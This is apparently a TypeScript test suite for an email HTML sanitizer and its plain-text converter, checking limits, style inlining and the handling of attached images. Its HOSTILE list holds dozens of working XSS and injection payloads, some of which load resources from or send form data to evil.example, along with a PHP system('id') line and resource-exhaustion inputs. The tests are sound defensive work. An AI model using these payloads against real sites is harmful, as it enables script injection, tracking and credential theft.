import { cleanHtml, htmlProblem } from '../../../server/src/message/clean-html';
import { textOf } from '../../../server/src/message/plain-text';
import { problemsOf } from '../../support/html-problems';

const NO_PICTURES: ReadonlySet<string> = new Set();
/** A time limit that no busy machine reaches; tests of the limit set their own. */
const clean = (html: string, cids: ReadonlySet<string> = NO_PICTURES, styleLimitMs = 60_000): Promise<string> =>
  cleanHtml(html, cids, styleLimitMs);

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError = "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="http://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/admin/logout">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=">',
  '<img srcset="http://evil.example/a 1x" src="https://club.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="http://evil.example/x.swf"></object><embed src="x">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<body onload=alert(1) background="http://evil.example/x.png">x</body>',
  '<video poster="http://evil.example/x"><source onerror=alert(1) src=x></video>',
  '<table background="http://evil.example/x.png"><td background="javascript:alert(1)">x</td></table>',
  '<style>@import "http://evil.example/x.css"; p { background: url(http://evil.example/x) }</style><p>x</p>',
  '<style>p{position:fixed;inset:0;z-index:99}</style><p>x</p>',
  '<style>p{behavior:url(x.htc);-moz-binding:url(x)}</style><p>x</p>',
  '<p style="background-image:url(http://evil.example/x)">x</p>',
  '<p style="background:\\75rl(http://evil.example/x)">x</p>',
  '<p style="color:u/**/rl(http://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="font-family:\'a\';background:url(x)">x</p>',
  '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
  '<p style="list-style-image:url(x);cursor:url(x);content:url(x)">x</p>',
  '<p id="__proto__" class="x" contenteditable>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php system("id") ?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<a name="x" href="https://ok.example/"><img src="https://ok.example/x.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></a>',
  '<plaintext><script>alert(1)</script>',
  '</body></html><script>alert(1)</script>',
  '<div'.repeat(1000),
  '<p style="' + 'color:red;'.repeat(5000) + '">x',
];

describe('cleaning of HTML', () => {
  it.each(HOSTILE)('removes everything that runs, loads or breaks out: %j', async (html) => {
    const cleaned = await clean(html);
    expect(problemsOf(cleaned)).toEqual([]);
    expect(cleaned).not.toMatch(/<!|<\?/);
    // Cleaning is idempotent: a second pass reveals nothing hidden.
    expect(await clean(cleaned)).toBe(cleaned);
  });

  it('is tested by a check that finds hostile HTML', () => {
    const harmless = ['<textarea>', '<div', '<p id', '<![CDATA', '</body>', '<title>', '<xmp>'];
    for (const html of HOSTILE.slice(0, 30))
      if (!harmless.some((start) => html.startsWith(start)))
        expect([html, problemsOf(html).length + Number(/<scr<|<<|jav&#x09;|<!--/.test(html)) > 0]).toEqual([
          html,
          true,
        ]);
  });

  it('keeps ordinary formatting', async () => {
    const written =
      '<h1>Grüße</h1><p style="text-align:center">Hello <strong>you</strong>, <em>and</em> <u>you</u></p>' +
      '<ul><li>one</li><li><a href="https://club.example/?a=1&amp;b=2">two</a></li></ul>' +
      '<blockquote>said</blockquote><p><img src="cid:logo@club.example" alt="Logo" width="40" /></p>' +
      '<table border="1"><tbody><tr><td colspan="2" align="right">3</td></tr></tbody></table>';
    expect(await clean(written, new Set(['logo@club.example']))).toBe(written);
  });

  it.each(
    Object.entries<[string, string]>({
      'with one of that name': ['<img src="cid:logo">', '<img src="cid:logo" />'],
      'however the scheme is written': ['<img src=" CID:logo ">', '<img src="cid:logo" />'],
      'without one of that name': ['<img src="cid:other" alt="Other">', '<img alt="Other" />'],
      'with a name that differs in case': ['<img src="cid:Logo" alt="Logo">', '<img alt="Logo" />'],
      'with a link to it': ['<a href="cid:logo">x</a>', '<a>x</a>'],
    })
  )('keeps an attached image: %s', async (_what, [html, cleaned]) =>
    expect(await clean(html, new Set(['logo']))).toBe(cleaned)
  );

  it('inlines the style sheet', async () => {
    expect(await clean('<style>p { color: red } .big { font-size: 20px }</style><p class="big">x</p>')).toBe(
      '<p style="color:red;font-size:20px">x</p>'
    );
  });

  it.each([
    ['too much of it', `<style>${'a{color:red}'.repeat(10_000)}</style><p>x</p>`],
    ['too much for so many elements', `<style>${'a{color:red}'.repeat(3000)}</style>${'<p>x</p>'.repeat(1000)}`],
    ['too many in one rule', `<style>${'a,'.repeat(3000)}b{color:red}</style>${'<p>x</p>'.repeat(1000)}`],
    ['none that anybody reads', '<style>p{{{color:</style><p>x</p>'],
  ])('drops the style sheet: %s', async (_what, html) => expect(await clean(html)).toMatch(/^(?:<p>x<\/p>)+$/));

  it('drops a style sheet whose sibling selectors take longer than the limit', async () => {
    const withParagraphs = (count: number) => `<style>x~p~p~p,b{color:red}</style><b>y</b>${'<p>x</p>'.repeat(count)}`;
    expect(await clean(withParagraphs(5))).toContain('<b style="color:red">');
    expect(await clean(withParagraphs(250), NO_PICTURES, 20)).toMatch(/^<b>y<\/b>(?:<p>x<\/p>)+$/);
    // These selectors take seconds on any machine, far more than the default limit.
    expect(await cleanHtml(withParagraphs(250), NO_PICTURES)).toMatch(/^<b>y<\/b>(?:<p>x<\/p>)+$/);
  });

  it('reads unclosed sheets in one pass', async () => {
    expect(await clean('<style '.repeat(100_000))).toBe('');
    expect(await clean('<style>'.repeat(100_000))).toBe('');
  });

  it('removes the source of an image behind a space', async () => {
    expect(await clean('<img src=" \nhttps://elsewhere.example/t.png">')).toBe(
      '<img src="https://elsewhere.example/t.png" />'
    );
    expect(await clean('<p style="background-color:red\nurl(https://elsewhere.example/t.png)">x</p>')).toBe('<p>x</p>');
  });

  it.each([
    ['never closed', '<div>'.repeat(200_000), 'is nested too deeply'],
    ['in each other', `${'<b>'.repeat(500)}x${'</b>'.repeat(500)}`, 'is nested too deeply'],
    ['in one list', `<ul>${'<li>x'.repeat(200_000)}`, 'has too many elements'],
    ['as quotations in quotations', `${'<blockquote>'.repeat(190)}${'x<br>'.repeat(30_000)}`, 'has too many elements'],
    ['one after the other', '<p>x</p>'.repeat(30_000), null],
    ['one after the other, too many', '<p>x</p>'.repeat(30_001), 'has too many elements'],
    ['around too many pieces of text', '&lt;'.repeat(150_001), 'has too many elements'],
    ['with too many attributes', `<p ${'a '.repeat(201)}>x</p>`, 'has too many attributes'],
    ['with as many attributes as mail has', `<p ${'a '.repeat(20)}>`.repeat(4000), null],
    ['with too many attributes together', `<p ${'a '.repeat(20)}>`.repeat(4001), 'has too many attributes'],
    ['as deep as mail gets', `${'<table><tr><td>'.repeat(40)}x`, null],
  ])('checks the limits of elements %s', (_what, html, problem) => expect(htmlProblem(html)).toBe(problem));
});

describe('the text part', () => {
  it('has the same content as the HTML', () => {
    expect(
      textOf(
        '<h1>News</h1><p>Hello <b>Ada</b> &amp; Ben,</p><ul><li>one</li><li><a href="https://club.example/">two</a></li></ul>' +
          '<p><a href="https://club.example/">https://club.example/</a> <img src="cid:x" alt="Logo"></p><blockquote>said</blockquote>'
      )
    ).toBe(
      'News\n\nHello Ada & Ben,\n\n * one\n * two [https://club.example/]\n\nhttps://club.example/ [Logo]\n\n> said'
    );
  });

  it('wraps long lines', () => {
    const lines = textOf(`<p>${'word '.repeat(100)}</p>`).split('\n');
    expect(lines.length).toBeGreaterThan(5);
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(78);
  });
});
